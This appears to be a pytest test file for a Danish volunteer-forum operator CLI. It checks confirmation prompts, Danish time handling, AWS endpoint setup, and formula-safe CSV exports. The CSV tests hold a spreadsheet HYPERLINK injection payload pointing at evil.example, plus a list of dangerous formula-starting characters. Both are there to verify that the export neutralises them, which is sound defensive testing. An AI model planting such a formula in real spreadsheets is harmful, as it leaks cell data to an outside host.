@@ -1,0 +1,292 @@
+"""The operator CLI's own rules, with fake stores: ids that do not exist, questions before
+what cannot be undone (j/n as well as y/n), Danish time in and out, the spreadsheet, and
+where it sends its AWS calls."""
+
+from __future__ import annotations
+
+import csv
+import socket
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import click
+import pytest
+from click.testing import CliRunner
+from hypothesis import given
+from hypothesis import strategies as st
+
+import cli.resources
+from cli.danish import confirm, danish_time, parse_danish_time
+from cli.environment import configure, export_line, local_values, parse_export_line
+from cli.main import main
+from cli.spreadsheet import BOM, FORMULA_STARTS, HEADINGS, neutralise
+from shared.clock import COPENHAGEN
+from shared.forums.registration import Registration, Status
+from shared.roles import Role
+
+
+@pytest.fixture(autouse=True)
+def _no_local_runtime(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    """Every command here talks to the fakes, never to a runtime found on this machine."""
+    monkeypatch.setenv("LOCAL_STATE_DIR", str(tmp_path / "no-runtime"))
+    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
+
+
+# -- Danish time ------------------------------------------------------------------------------
+
+def test_times_are_shown_in_danish_time_summer_and_winter() -> None:
+    assert danish_time(datetime(2027, 1, 15, 7, 0, tzinfo=UTC)) == "2027-01-15 08:00"
+    assert danish_time(datetime(2027, 7, 15, 7, 0, tzinfo=UTC)) == "2027-07-15 09:00"
+    assert danish_time("2027-07-15T07:00:00+00:00") == "2027-07-15 09:00"
+    assert danish_time(datetime(2027, 7, 15, 7, 0)) == "2027-07-15 09:00"  # naive is UTC inside
+    assert danish_time(None) == "-"
+
+
+@given(st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2040, 1, 1)))
+def test_a_time_typed_without_offset_is_danish_time_and_prints_back_as_typed(
+        typed: datetime) -> None:
+    typed = typed.replace(second=0, microsecond=0)
+    local = typed.replace(tzinfo=COPENHAGEN)
+    exists = local.astimezone(UTC).astimezone(COPENHAGEN).replace(tzinfo=None) == typed
+    parsed = parse_danish_time(typed.isoformat(sep=" ", timespec="minutes"))
+    assert parsed.utcoffset() == local.utcoffset()
+    if exists:  # not inside the hour skipped when summer time begins
+        assert danish_time(parsed) == typed.strftime("%Y-%m-%d %H:%M")
+
+
+# -- questions --------------------------------------------------------------------------------
+
+@click.command()
+def ask() -> None:
+    click.echo("JA" if confirm("Sikker?") else "NEJ")
+
+
+@pytest.mark.parametrize(("answer", "said"), [
+    ("j", "JA"), ("J", "JA"), ("ja", "JA"), ("y", "JA"), ("yes", "JA"), ("Yes", "JA"),
+    ("n", "NEJ"), ("nej", "NEJ"), ("NO", "NEJ"), ("", "NEJ"), ("måske\nj", "JA"),
+    ("x\nn", "NEJ")])
+def test_confirmation_prompts_take_danish_and_english_answers(answer: str, said: str) -> None:
+    done = CliRunner().invoke(ask, input=answer + "\n")
+    assert done.exit_code == 0 and done.output.strip().endswith(said)
+    if answer.startswith(("måske", "x")):
+        assert "Svar j (ja) eller n (nej)." in done.output
+
+
+# -- fakes of what the commands read and change ----------------------------------------------
+
+@dataclass
+class FakeSession:
+    id: str
+    city: str = "Kolding"
+    starts_at: datetime = datetime(2099, 3, 4, 8, 30, tzinfo=UTC)
+
+
+@dataclass
+class FakeCatalogue:
+    sessions: dict[str, FakeSession]
+    changes: list[tuple[str, dict[str, Any]]] = field(default_factory=list)
+
+    def session(self, session_id: str) -> FakeSession | None:
+        return self.sessions.get(session_id)
+
+    def set_status(self, session_id: str, **change: Any) -> None:
+        self.changes.append((session_id, change))
+
+
+@dataclass
+class FakeRegistrations:
+    people: list[Registration]
+    line: list[str] = field(default_factory=list)
+
+    def registrations(self, session_id: str) -> list[Registration]:
+        return [r for r in self.people if r.session_id == session_id]
+
+    def waiting(self, session_id: str) -> list[str]:
+        return self.line
+
+
+def person(name: str = "Anne Hansen", *, status: Status = Status.CONFIRMED, phone: str = "",
+           needs: str = "", workplace: str = "Odense Kommune", number: int = 1) -> Registration:
+    return Registration(id=f"r-{number}", session_id="s-1", status=status, name=name,
+                        email=f"p{number}@example.dk", phone=phone or None,
+                        role=Role.AREA_LEADER, workplace=workplace, member_number="123",
+                        needs=needs or None,
+                        created_at=datetime(2027, 7, 1, 10, 5, tzinfo=UTC))
+
+
+@pytest.fixture
+def world(monkeypatch: pytest.MonkeyPatch) -> tuple[FakeCatalogue, FakeRegistrations]:
+    catalogue = FakeCatalogue({"s-1": FakeSession("s-1")})
+    registrations = FakeRegistrations([])
+    monkeypatch.setattr(cli.resources, "catalogue_reader", lambda: catalogue)
+    monkeypatch.setattr(cli.resources, "registration_store", lambda: registrations)
+    return catalogue, registrations
+
+
+def leaders(*args: str, input: str | None = None) -> Any:
+    return CliRunner().invoke(main, list(args), input=input)
+
+
+# -- ids that do not exist --------------------------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    ["forums", "close", "nope"], ["forums", "close", "nope", "--reopen"],
+    ["forums", "participants", "nope"], ["forums", "participants", "nope", "--csv"],
+    ["forums", "cancel-session", "nope", "--reason", "Syg", "--yes"]])
+def test_a_session_that_does_not_exist_is_named_with_a_non_zero_exit(
+        world: tuple[FakeCatalogue, FakeRegistrations], command: list[str]) -> None:
+    done = leaders(*command)
+    assert done.exit_code == 1
+    assert "Sessionen 'nope' findes ikke." in done.output
+    assert world[0].changes == []
+
+
+@pytest.mark.parametrize("address", ["notanemail", "a@b", "@example.dk", "a b@example.dk"])
+@pytest.mark.parametrize("command", ["export", "erase"])
+def test_privacy_commands_refuse_what_is_not_an_email_address(address: str,
+                                                              command: str) -> None:
+    done = leaders("privacy", command, address, "--yes" if command == "erase" else "--area=forums")
+    assert done.exit_code == 1 and f"'{address}' er ikke en e-mailadresse." in done.output
+
+
+# -- what cannot be undone asks first -------------------------------------------------------
+
+def test_cancel_session_asks_first_and_no_changes_nothing(
+        world: tuple[FakeCatalogue, FakeRegistrations]) -> None:
+    catalogue, registrations = world
+    registrations.people = [person(), person(number=2, status=Status.CANCELLED)]
+    done = leaders("forums", "cancel-session", "s-1", "--reason", "Syg", input="n\n")
+    assert "Aflys s-1 (Kolding, 2099-03-04 09:30) og skriv til 1 deltagere?" in done.output
+    assert done.exit_code == 1 and "Intet er aflyst." in done.output
+    assert catalogue.changes == []
+
+
+@pytest.mark.parametrize("how", [["--yes"], [], []])
+def test_cancel_session_goes_ahead_on_yes_or_when_told_so(
+        world: tuple[FakeCatalogue, FakeRegistrations], how: list[str]) -> None:
+    catalogue, _ = world
+    done = leaders("forums", "cancel-session", "s-1", "--reason", "Syg", *how, input="j\n")
+    assert done.exit_code == 0, done.output
+    assert ("[j/n]" in done.output) is (how == [])
+    assert catalogue.changes == [("s-1", {"cancelled": True, "reason": "Syg"})]
+
+
+# -- the newsletter's own send time -----------------------------------------------------------
+
+@given(ago=st.timedeltas(min_value=timedelta(minutes=1), max_value=timedelta(days=3000)))
+def test_approve_at_a_time_already_past_is_refused(ago: timedelta) -> None:
+    typed = (datetime.now(COPENHAGEN) - ago).strftime("%Y-%m-%dT%H:%M")
+    done = leaders("newsletter", "approve", "nr-1", "--at", typed)
+    assert done.exit_code == 1
+    assert "er allerede passeret" in done.output and "(dansk tid)" in done.output
+
+
+def test_approve_at_something_that_is_not_a_time_says_how_to_write_it() -> None:
+    done = leaders("newsletter", "approve", "nr-1", "--at", "næste tirsdag")
+    assert done.exit_code == 1 and "dansk tid som ÅÅÅÅ-MM-DD tt:mm" in done.output
+
+
+# -- the spreadsheet --------------------------------------------------------------------------
+
+CELL = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"],
+                             exclude_characters="\x00"), max_size=40)
+DANGEROUS = st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), CELL).map("".join)
+NAME = st.one_of(DANGEROUS, CELL.filter(lambda t: t.strip() != ""),
+                 st.just('=HYPERLINK("https://evil.example/?"&A1;"Klik")'))
+
+
+@given(people=st.lists(st.tuples(NAME, st.one_of(st.just(""), DANGEROUS, st.just("+45 12 34")),
+                                 CELL, NAME), min_size=1, max_size=6))
+def test_participants_csv_reads_back_cell_for_cell_with_no_formula(
+        people: list[tuple[str, str, str, str]], tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    catalogue = FakeCatalogue({"s-1": FakeSession("s-1")})
+    registered = [person(name, phone=phone, needs=needs, workplace=workplace, number=i,
+                         status=Status.WAITLISTED if i % 2 else Status.CONFIRMED)
+                  for i, (name, phone, needs, workplace) in enumerate(people)]
+    store = FakeRegistrations(registered, line=[r.id for r in registered if r.status ==
+                                                Status.WAITLISTED])
+    out = tmp_path_factory.mktemp("csv") / "deltagere.csv"
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(cli.resources, "catalogue_reader", lambda: catalogue)
+        patch.setattr(cli.resources, "registration_store", lambda: store)
+        done = leaders("forums", "participants", "s-1", "--csv", "--out", str(out))
+    assert done.exit_code == 0, done.output
+
+    raw = out.read_bytes()
+    assert raw.startswith(BOM.encode("utf-8"))  # Excel reads æøå as UTF-8
+    with out.open(encoding="utf-8-sig", newline="") as opened:
+        rows = list(csv.reader(opened, delimiter=";"))
+    assert rows[0] == HEADINGS
+    expected = {}
+    for r in registered:
+        place = store.line.index(r.id) + 1 if r.id in store.line else ""
+        expected[r.id] = [
+            "Bekræftet" if r.status is Status.CONFIRMED else "På venteliste", str(place),
+            neutralise(r.name), r.email, neutralise(r.phone or ""), "Områdeleder",
+            neutralise(r.workplace), "123", neutralise(r.needs or ""), "2027-07-01 12:05", r.id]
+    assert {row[-1]: row for row in rows[1:]} == expected
+    assert len(rows) == len(registered) + 1
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), cell
+
+
+# -- where the AWS calls go ------------------------------------------------------------------
+
+def test_the_printed_line_carries_both_region_variables() -> None:
+    values = local_values("http://127.0.0.1:18000", "eu-north-1")
+    line = export_line(values)
+    assert "AWS_DEFAULT_REGION=eu-north-1" in line and "AWS_REGION=eu-north-1" in line
+    assert parse_export_line(line) == values
+
+
+def test_aws_region_alone_is_enough() -> None:
+    environ = {"AWS_ENDPOINT_URL": "http://127.0.0.1:1", "AWS_REGION": "eu-north-1"}
+    configure(environ)
+    assert environ["AWS_DEFAULT_REGION"] == "eu-north-1"
+
+
+@pytest.fixture
+def listening() -> Any:
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen()
+        yield f"http://127.0.0.1:{server.getsockname()[1]}"
+
+
+def _written(folder: Path, endpoint: str) -> None:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "env").write_text(export_line(local_values(endpoint, "eu-north-1")) + "\n")
+
+
+def test_the_local_env_file_is_read_when_no_endpoint_is_set(tmp_path: Path,
+                                                            listening: str) -> None:
+    _written(tmp_path, listening)
+    environ = {"LOCAL_STATE_DIR": str(tmp_path), "HOME": str(tmp_path)}
+    assert configure(environ) == str(tmp_path / "env")
+    assert environ["AWS_ENDPOINT_URL"] == listening
+    assert environ["AWS_DEFAULT_REGION"] == "eu-north-1"
+
+
+@pytest.mark.parametrize("own", [{"AWS_PROFILE": "prod"}, {"AWS_ACCESS_KEY_ID": "AKIA…"},
+                                 {"AWS_ENDPOINT_URL": "https://dynamodb.eu-north-1.amazonaws.com"}])
+def test_the_local_env_file_is_ignored_beside_an_aws_setup_of_ones_own(
+        tmp_path: Path, listening: str, own: dict[str, str]) -> None:
+    _written(tmp_path, listening)
+    environ = {"LOCAL_STATE_DIR": str(tmp_path), "HOME": str(tmp_path), **own}
+    assert configure(environ) is None
+    assert environ.get("AWS_ENDPOINT_URL") != listening
+
+
+def test_the_local_env_file_is_ignored_when_its_runtime_is_gone_or_not_local(
+        tmp_path: Path) -> None:
+    for endpoint in ("http://127.0.0.1:9", "http://198.51.100.7:4566"):
+        _written(tmp_path, endpoint)
+        environ = {"LOCAL_STATE_DIR": str(tmp_path), "HOME": str(tmp_path)}
+        assert configure(environ) is None and "AWS_ENDPOINT_URL" not in environ
+    (tmp_path / ".aws").mkdir()
+    (tmp_path / ".aws" / "config").write_text("[default]\nregion = eu-north-1\n")
+    assert configure({"LOCAL_STATE_DIR": str(tmp_path), "HOME": str(tmp_path)}) is None
